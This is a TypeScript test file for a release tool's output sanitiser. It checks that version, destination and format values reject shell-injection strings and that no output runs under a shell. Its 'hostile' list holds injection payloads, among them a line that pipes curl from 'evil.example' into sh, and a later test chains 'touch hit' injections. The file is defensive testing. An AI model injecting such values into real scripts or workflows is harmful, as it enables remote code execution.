/** Outputs: what workflows put into scripts is a name, a version, a tag, a digest or a reference, or is left out. */

import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { isDestination, isFormatName, isVersion } from '../../src/release/output-values.ts';
import { outputsOf } from '../../src/release/outputs.ts';
import { artifact, report } from '../host/reports.ts';
import { runExecutable } from '../support/programs.ts';

const hostile = [
  '1.0.0"; curl evil.example|sh #',
  '1.0.0\n`id` $(id)',
  "'; id; '",
  '$(id)',
  '`id`',
  '$IFS',
  'a b',
  'a;b',
  'a|b',
  'a&b',
  'a>b',
  '<(id)',
  '*',
  '~',
  '!!',
  '%PATH%',
  '-',
  '',
  'a\u0000b',
  'a\u2028b',
  '\u202e1.0',
  '1'.repeat(129),
];

suite('values of outputs', () => {
  test('versions of all kinds are versions, and other texts are not', () => {
    for (const version of ['1', '1.0', '1.2.3', 'v1.2.3-rc.1+build.5', '2024.10.01', '3b18e51', '1.0_2'])
      assert.ok(isVersion(version), version);
    for (const text of hostile) assert.equal(isVersion(text), false, text);
  });

  test('a repository and a layout are destinations, and other texts are not', () => {
    for (const text of [
      'ghcr.io/acme/x',
      'localhost:5000/a',
      'oci:./out',
      'oci:/tmp/größe_1',
      'oci:C:\\out\\x',
    ])
      assert.ok(isDestination(text), text);
    const active = hostile.filter((text) => /[^\w.-]/.test(text));
    for (const text of [
      ...hostile.slice(0, -1),
      ...active.flatMap((one) => [`oci:./${one}`, `r.example/${one}`]),
    ])
      assert.equal(isDestination(text), false, text);
    for (const text of ['ghcr.io/acme/x:1.0', 'GHCR.io/Acme/x', 'oci: ./out'])
      assert.equal(isDestination(text), false, text);
  });

  test('a format is the name of one, or the path of a declaration', () => {
    for (const text of ['wasm', './theme.format.json', './a/b@1+2.json']) assert.ok(isFormatName(text), text);
    for (const text of ['./$(id).json', './a b.json', "./'.json"]) assert.equal(isFormatName(text), false);
  });

  for (const text of hostile) {
    test(`no output has the text ${JSON.stringify(text).slice(0, 60)} as it is`, async () => {
      const one = artifact('x', {
        version: text,
        format: `./${text}.json`,
        repository: `oci:./${text}`,
        files: [`${text}.wasm`],
        annotations: { [text]: text, 'org.opencontainers.image.description': text },
        origins: { name: text },
        tags: ['1.0.0'],
        error: { code: 'denied', message: text, hint: text },
      });
      const outputs = outputsOf(report([one]));
      const { include } = JSON.parse(outputs.matrix);
      const isLeftOut = !isVersion(text);
      assert.equal(include[0].version, isLeftOut ? '' : text);
      const [whole] = JSON.parse(outputs.artifacts);
      assert.equal('version' in whole, !isLeftOut);
      assert.equal(whole.annotations['org.opencontainers.image.description'], text);
      for (const value of Object.values(outputs))
        assert.doesNotMatch(value, /['`$;&|<>()#!*?~%\u0000-\u0008\u007f\u2028]/, value);
    });
  }

  test('a shell runs nothing that is in an output, however it is quoted', {
    skip: process.platform === 'win32',
  }, async () => {
    const run =
      '\'; touch hit; \'"; touch hit; "$(touch hit)`touch hit`\n touch hit; & touch hit | touch hit';
    const one = artifact('x', {
      version: run,
      annotations: { a: run },
      files: [run],
      repository: `oci:${run}`,
      error: { code: 'denied', message: run, hint: run },
    });
    const outputs = outputsOf(report([one]));
    const { include } = JSON.parse(outputs.matrix);
    const values = [...Object.values(outputs), ...Object.values<string>(include[0])];
    for (const value of values) {
      for (const script of [`echo '${value}'`, `echo "${value}"`, `echo ${value}`]) {
        const wrapped = `touch() { echo HIT; }\n${script}`;
        const { stdout, stderr } = await runExecutable('/bin/sh', ['-c', wrapped]);
        assert.doesNotMatch(stdout + stderr, /^HIT/m, script);
      }
    }
  });
});
